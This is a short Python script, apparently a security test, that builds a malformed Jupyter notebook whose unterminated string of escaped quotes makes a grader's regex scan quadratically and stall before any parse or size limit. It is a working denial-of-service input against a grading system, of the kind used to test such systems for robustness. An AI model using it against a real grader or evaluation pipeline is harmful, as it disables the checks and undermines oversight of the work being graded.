"""mk_atk05.py OUTDIR [N]: OUTDIR/a1_attention.ipynb = a notebook whose JSON ends in an unterminated string of N escaped
quotes (\\" repeated; default 120,000: 240 KB). Not valid JSON, so a correct grader says "not a valid notebook" at once.
markers._JSON_STRING (the JSON value count added after attacks_r) tries a match from every quote and each scans to the
end of the file: quadratic (160 KB: 67 s in-process), in the trusted process, before any parse or limit."""
import sys
from pathlib import Path
out = Path(sys.argv[1]); n = int(sys.argv[2]) if len(sys.argv) > 2 else 120_000
out.mkdir(parents=True, exist_ok=True)
(out / "a1_attention.ipynb").write_bytes(b'{"cells": [], "metadata": {"x": "' + b'\\"' * n)
print(out / "a1_attention.ipynb", (out / "a1_attention.ipynb").stat().st_size)
